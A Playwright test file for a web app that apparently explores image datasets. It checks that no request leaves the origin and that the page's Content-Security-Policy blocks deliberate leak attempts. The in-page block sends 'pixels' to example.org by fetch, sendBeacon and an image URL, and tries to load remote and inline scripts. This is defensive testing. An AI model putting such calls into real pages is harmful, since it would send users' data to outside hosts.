import { idxSet } from '../../src/data/testing.ts';
import { expect, test } from '../page.ts';

test('no image and no request leaves the origin, whatever is opened and computed, and the page refuses to', async ({
  page,
  context,
  explore,
  baseURL,
  complaints,
}) => {
  const sent: string[] = [];
  context.on('request', (request) => {
    const isOwn = request.url().startsWith(baseURL!) || /^(blob|data):/.test(request.url());
    if (!isOwn || request.method() !== 'GET' || request.postData() !== null)
      sent.push(`${request.method()} ${request.url()}`);
  });
  const opened = await page.goto('./?data=strokes&train=200&test=100&backend=wasm');
  const policy = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  expect(policy).toContain("default-src 'none'");
  expect(opened!.headers()['content-security-policy']).toBe(policy);
  await explore.finished();
  // Images of a person's own.
  await explore.drop(idxSet(60, 40));
  await explore.openMenu(/^Images/);
  await page.getByRole('button', { name: 'Open them as your own' }).click();
  await explore.finished();
  await explore.image.getByRole('spinbutton').fill('3');
  await expect(explore.image.locator('.distances')).toBeVisible();
  for (const name of ['Compare', 'Unsupervised', 'Paper'])
    await page.getByRole('link', { name, exact: true }).click();
  await expect(page.getByRole('heading', { name: /Figure 1/ })).toBeVisible();
  expect(sent).toEqual([]);

  // What the policy is for: code that would send something anyway, or be somebody else's.
  const refused = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      violations.push(effectiveDirective),
    );
    await fetch('https://example.org/', { method: 'POST', body: 'pixels' }).catch(() => undefined);
    navigator.sendBeacon('https://example.org/', 'pixels');
    new Image().src = 'https://example.org/?pixels';
    const script = document.createElement('script');
    const set = (change: () => void): void => {
      try {
        change();
      } catch {
        violations.push('refused');
      }
    };
    set(() => (script.src = 'https://example.org/code.js'));
    set(() => new Worker('https://example.org/code.js').terminate());
    const inline = document.createElement('script');
    set(() => (inline.text = 'globalThis.isInline = true'));
    document.head.append(inline);
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { violations: [...new Set(violations)], isInline: 'isInline' in globalThis };
  });
  expect(refused.isInline).toBe(false);
  expect(refused.violations).toEqual(
    expect.arrayContaining(['connect-src', 'img-src', 'require-trusted-types-for']),
  );
  complaints.length = 0;
});
